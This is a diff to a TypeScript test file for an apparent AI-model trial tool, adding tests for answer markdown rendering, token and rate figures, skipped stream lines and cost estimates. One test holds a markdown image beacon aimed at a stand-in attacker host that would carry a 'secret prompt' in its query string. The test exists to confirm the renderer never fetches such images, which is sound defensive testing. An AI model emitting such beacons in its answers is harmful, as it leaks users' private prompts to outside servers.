@@ -4,9 +4,10 @@ import { answerHtml } from '../../src/lib/trial/answer-markdown.ts';
 import type { Pricing } from '../../src/lib/data/schema.ts';
 import type { StreamUsage } from '../../src/lib/trial/stream.ts';
 import { estimateCost, runCost } from '../../src/lib/trial/cost.ts';
+import { estimateTokens } from '../../src/lib/calculator/tokenizers.ts';
 import { modelsFromQuery, readTrialModels } from '../../src/lib/trial/models.ts';
 import { buildTrialRequest } from '../../src/lib/trial/request.ts';
-import { applyEvent, describePhase, startRun } from '../../src/lib/trial/run.ts';
+import { applyEvent, describeBadLines, describePhase, runFigures, startRun, type TrialRun } from '../../src/lib/trial/run.ts';
 
 class MemoryStorage implements KeyValueStorage {
   readonly items = new Map<string, string>();
@@ -72,6 +73,16 @@ describe('answer markdown', () => {
     expect(html).toContain('<a rel="nofollow noopener noreferrer" target="_blank" href="https://example.org">c</a>');
   });
 
+  it('shows markdown images as links to the image, so an answer never makes the browser fetch a URL', () => {
+    const html = answerHtml('![chart](https://evil.example/pixel.png?q=my%20secret%20prompt "t") and ![](/relative.png) and ![x](data:image/png;base64,AAAA)');
+    expect(html).not.toContain('<img');
+    expect(html).toContain(
+      '<a href="https://evil.example/pixel.png?q=my%20secret%20prompt" rel="noopener noreferrer nofollow" target="_blank">chart (image)</a>',
+    );
+    expect(html).toContain('<span class="inert-link">image</span>');
+    expect(html).toContain('<span class="inert-link">x</span>');
+  });
+
   it('renders GFM tables and lists', () => {
     expect(answerHtml('| a |\n|---|\n| 1 |')).toContain('<table>');
     expect(answerHtml('- x\n- y')).toContain('<li>x</li>');
@@ -94,9 +105,47 @@ function usage(overrides: Partial<StreamUsage> = {}): StreamUsage {
     cacheWriteTokens: null,
     reasoningTokens: 100,
     cost: null,
+    implausible: null,
     ...overrides,
   };
 }
+
+describe('trial figures', () => {
+  const finishedRun = (usage: StreamUsage | null): TrialRun => ({
+    ...startRun(0),
+    phase: 'done',
+    content: 'x'.repeat(80),
+    firstTokenAt: 250,
+    endedAt: 2250,
+    usage,
+  });
+
+  it('shows n/a with the reason for usage the server could not have meant, and no cost', () => {
+    const reason = 'the server reported Infinity completion_tokens, more than any model handles in one call';
+    const run = finishedRun(usage({ implausible: reason }));
+    expect(runFigures(run)).toMatchObject({ rate: `n/a: ${reason}`, tokens: `n/a: ${reason}`, promptTokens: 'n/a', completionTokens: 'n/a' });
+    expect(runCost(pricing, run.usage)).toEqual({ kind: 'none', reason });
+  });
+
+  it('shows believable usage as counts and a rate over the time from first token to end', () => {
+    // 300 completion tokens over 2 s.
+    expect(runFigures(finishedRun(usage()))).toEqual({
+      timeToFirstToken: '250 ms',
+      rate: '150.0 tok/s',
+      totalTime: '2.25 s',
+      tokens: '1,000 prompt (200 cached) · 300 completion (100 reasoning)',
+      promptTokens: '1,000',
+      completionTokens: '300',
+    });
+  });
+
+  it('counts a flood of non-JSON lines without keeping each, and names the first', () => {
+    let run = startRun(0);
+    for (let i = 0; i < 20_000; i += 1) run = applyEvent(run, { type: 'bad-line', line: `junk ${i}` }, 1);
+    expect(run).toMatchObject({ badLineCount: 20_000, firstBadLine: 'junk 0' });
+    expect(describeBadLines(run)).toBe('20,000 lines in the stream were not JSON and were skipped: “junk 0”.');
+  });
+});
 
 describe('trial cost', () => {
   it('prefers the cost the server reported', () => {
@@ -121,6 +170,14 @@ describe('trial cost', () => {
     const estimate = estimateCost(pricing, [{ role: 'user', content: 'x'.repeat(40) }], 100);
     // 14 × 0.5 + 100 × 1.5 per million = 0.000007 + 0.00015.
     expect(estimate).toEqual({ promptTokens: 14, maxCompletionTokens: 100, cost: { kind: 'computed', total: '0.000157' } });
+  });
+
+  it('counts characters for the estimate as the calculator does: code points, rounded up', () => {
+    // 9 emoji are 9 code points (18 UTF-16 units): ⌈9 / 4⌉ = 3 tokens + 4 for the message. The
+    // calculator's "characters ÷ 4" count of the same text is the same 3.
+    const emoji = '😀'.repeat(9);
+    expect(estimateCost(pricing, [{ role: 'user', content: emoji }], null).promptTokens).toBe(7);
+    expect(estimateTokens(emoji)).toBe(3);
   });
 });
 
